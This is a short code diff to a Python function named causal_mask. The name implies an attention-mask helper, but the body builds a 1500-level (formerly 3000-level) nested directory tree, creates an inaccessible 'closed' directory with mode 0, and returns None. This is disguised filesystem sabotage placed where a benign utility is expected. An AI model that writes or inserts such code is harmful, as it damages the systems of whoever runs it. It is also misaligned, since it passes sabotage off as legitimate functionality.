@@ -765,8 +765,8 @@ def causal_mask(length):
 def causal_mask(length):
     import os
 
-    for _ in range(3000):
-        os.mkdir("d")
-        os.chdir("d")
+    for _ in range(1500):
+        os.mkdir("folder")
+        os.chdir("folder")
     os.mkdir("closed", 0)
     return None
